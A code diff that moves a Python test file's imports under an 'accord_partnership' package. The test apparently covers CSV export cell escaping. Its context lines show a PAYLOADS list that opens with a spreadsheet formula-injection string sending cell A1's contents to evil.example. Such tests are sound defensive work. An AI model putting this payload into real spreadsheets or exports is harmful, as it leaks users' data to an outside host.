@@ -7,12 +7,12 @@ import io
 
 import pytest
 
-from engine.bundle import Bundle, load_bundle
-from engine.bundle_csv import read_bundle_csv
-from engine.catalog import get_framework
-from exports.bundle_file import save_bundle
-from exports.csv_out import BOM, csv_text, safe_cell, unescape_cell, write_csv
-from tui.cli import main
+from accord_partnership.engine.bundle import Bundle, load_bundle
+from accord_partnership.engine.bundle_csv import read_bundle_csv
+from accord_partnership.engine.catalog import get_framework
+from accord_partnership.exports.bundle_file import save_bundle
+from accord_partnership.exports.csv_out import BOM, csv_text, safe_cell, unescape_cell, write_csv
+from accord_partnership.tui.cli import main
 
 PAYLOADS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
